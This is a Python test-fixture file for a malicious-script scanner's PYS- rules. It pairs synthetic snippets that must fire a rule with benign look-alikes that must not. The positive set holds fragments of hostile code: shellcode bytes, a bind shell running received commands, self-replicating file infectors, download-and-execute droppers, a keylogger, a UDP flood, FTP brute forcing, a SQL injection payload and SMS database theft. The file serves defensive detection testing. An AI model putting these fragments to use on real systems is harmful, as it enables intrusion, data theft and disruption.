"""Examples for the `PYS-` rules; every text is synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

PY = Lang.PYTHON

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    ("PYS-001", PY, 'sc = "\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68\\x2f\\x62\\x69\\x6e"'),
    ("PYS-001", PY, 'sled = "\\x90" * 300'),
    ("PYS-001", PY, 'stub = b"\\xdb\\xc0\\xd9\\x74\\x24\\xf4\\x5e"'),
    (
        "PYS-002",
        PY,
        'import struct\nbuf = "A" * 1040\nbuf += struct.pack("<L", 0x7c86467b)\nbuf += "\\xcc"',
    ),
    (
        "PYS-003",
        PY,
        "import socket\ns = socket.socket()\ns.connect((host, 9999))\n"
        "s.send(b'TRUN /.:/' + b'Z' * 3000)",
    ),
    (
        "PYS-004",
        PY,
        "import socket, subprocess\nc = socket.socket()\nc.bind(('', 4444)); c.listen(1)\n"
        "conn, _ = c.accept()\nwhile True:\n    cmd = conn.recv(1024)\n"
        "    out = subprocess.check_output(cmd, shell=True)\n    conn.send(out)",
    ),
    (
        "PYS-005",
        PY,
        "import glob, sys\nme = open(sys.argv[0]).read()\nfor host in glob.glob('*.py'):\n"
        "    body = open(host).read()\n    if 'sig' not in body:\n"
        "        open(host, 'w').write(me + body)",
    ),
    (
        "PYS-005",
        PY,
        "import os\nown = open(__file__).readlines()\nfor root, _, names in os.walk('/'):\n"
        "    for n in names:\n        if n.endswith('.py'):\n"
        "            f = open(os.path.join(root, n), 'a'); f.writelines(own)",
    ),
    (
        "PYS-006",
        PY,
        "import urllib.request, os\nurllib.request.urlretrieve(url, '/tmp/upd')\n"
        "os.chmod('/tmp/upd', 0o755)\nos.system('/tmp/upd &')",
    ),
    (
        "PYS-010",
        PY,
        "import socket\nprint('[*] Remote exploit for the example daemon')",
    ),
    ("PYS-011", PY, "import urllib\nprint('forum SQL injection, grants admin')"),
    ("PYS-012", PY, "import requests\nprint('[+] target is vulnerable')"),
    (
        "PYS-013",
        PY,
        'import requests\nq = "1\' UNION SELECT username, password FROM users-- -"\n'
        "requests.get(site + '/item.php?id=' + q)",
    ),
    (
        "PYS-014",
        PY,
        "import socket\nfor i in range(1, 255):\n    s = socket.socket()\n"
        "    s.settimeout(0.3)\n    if s.connect_ex(('10.0.0.%d' % i, 23)) == 0:\n"
        "        found.append(i)",
    ),
    (
        "PYS-015",
        PY,
        "import paramiko\nc = paramiko.SSHClient()\nc.connect(h, username='pi',"
        " password='raspberry')",
    ),
    ("PYS-016", PY, "sftp.get('/private/var/mobile/Library/SMS/sms.db', dest)"),
    (
        "PYS-017",
        PY,
        "import shutil, struct\nshutil.copy('stub/setup.exe', out)\nf = open(out, 'r+b')\n"
        "f.seek(-64, 2)\nf.write(struct.pack('<I', campaign))",
    ),
)

POSITIVE += (
    (
        "PYS-007",
        PY,
        "import urllib.request, subprocess, tempfile, os\n"
        "p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
        "urllib.request.urlretrieve('http://198.51.100.7/u', p)\nsubprocess.Popen(p)",
    ),
    (
        "PYS-007",
        PY,
        "import requests, os\nopen('/tmp/.d', 'wb').write(requests.get(u).content)\n"
        "os.chmod('/tmp/.d', 0o755)\nos.system('/tmp/.d &')",
    ),
    (
        "PYS-008",
        PY,
        "from pynput.keyboard import Listener\ndef on_press(key):\n"
        "    with open('k.log', 'a') as f:\n        f.write(str(key))\n"
        "with Listener(on_press=on_press) as l:\n    l.join()",
    ),
    (
        "PYS-018",
        PY,
        "import socket, random\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "junk = random._urandom(1400)\nwhile True:\n    s.sendto(junk, (ip, port))",
    ),
    (
        "PYS-019",
        PY,
        "import ftplib\nfor word in open('words.txt'):\n    try:\n"
        "        ftplib.FTP(host).login('admin', word.strip())\n    except ftplib.error_perm:\n"
        "        pass",
    ),
    ("PYS-020", PY, "from pwn import *\nio = remote(host, 31337)\nio.send(b'A' * 72 + p64(ret))"),
    (
        "PYS-021",
        PY,
        "from scapy.all import IP, TCP, sr1\nfor port in ports:\n"
        "    r = sr1(IP(dst=target)/TCP(dport=port, flags='S'), timeout=1)",
    ),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    # Course code: sockets, struct, subprocess and long strings, each on its own.
    (
        PY,
        "import socket\nserver = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "server.bind(('127.0.0.1', 5000))\nserver.listen()\nconn, addr = server.accept()\n"
        "data = conn.recv(1024)\nconn.sendall(data.upper())",
    ),
    (
        PY,
        "import struct\nheader = struct.pack('<I', 0x46464952)\nrow = '=' * 100\n"
        "print(row)\nprint('-' * 300)",
    ),
    (PY, "import subprocess\nout = subprocess.check_output(['git', 'rev-parse', 'HEAD'])"),
    (PY, "def test_long():\n    s = 'a' * 1000\n    assert len(s) == 1000"),
    (PY, 'ESC = "\\x1b[0m"\nGREEN = "\\x1b[32m"\nprint(GREEN + "ok" + ESC)'),
    (PY, "data = b'\\x89PNG\\r\\n\\x1a\\n\\x00\\x00\\x00\\rIHDR'"),
    (
        PY,
        "import os\nhere = os.path.dirname(os.path.abspath(__file__))\n"
        "for name in os.listdir(here):\n    if name.endswith('.py'):\n        print(name)",
    ),
    (
        PY,
        "with open(__file__) as f:\n    print(f.read())\nimport glob\nfiles = glob.glob('*.py')",
    ),
    (
        PY,
        "import urllib.request\nurllib.request.urlretrieve(url, 'data.csv')\n"
        "rows = open('data.csv').read().splitlines()",
    ),
    (PY, "import requests\nprint('Exploration vs exploitation: epsilon =', eps)"),
    (PY, "def push(self, x):\n    if self.full():\n        raise IndexError('stack overflow')"),
    (PY, "for i in range(1, 255):\n    print(f'192.168.1.{i}')"),
    (
        PY,
        "import paramiko\nc = paramiko.SSHClient()\nc.connect(host, username=user,"
        " password=os.environ['SSH_PASSWORD'])",
    ),
    (
        PY,
        "import shutil\nshutil.copy('dist/app.exe', 'release/app.exe')\nprint('copied')",
    ),
    (
        PY,
        "import socket\nwhile True:\n    data, addr = sock.recvfrom(1024)\n"
        "    sock.sendto(data, addr)",
    ),
    (
        PY,
        "import smtplib\nfor user in users:\n    s = smtplib.SMTP(host)\n"
        "    s.login(sender, os.environ['SMTP_PASSWORD'])",
    ),
    (
        PY,
        "from pynput import keyboard\ndef on_press(key):\n    if key == keyboard.Key.f9:\n"
        "        toggle()\nwith open('settings.json', 'w') as f:\n    f.write(json.dumps(cfg))",
    ),
    (
        PY,
        "import requests, subprocess\nr = requests.get(api, timeout=5)\n"
        "subprocess.run(['notify-send', r.json()['title']])",
    ),
    (PY, "from scapy.all import sniff\nsniff(prn=lambda p: p.summary(), count=10)"),
    (
        PY,
        "class Graph:\n    def bfs(self, start):\n        queue = [start]\n        seen = {start}",
    ),
)
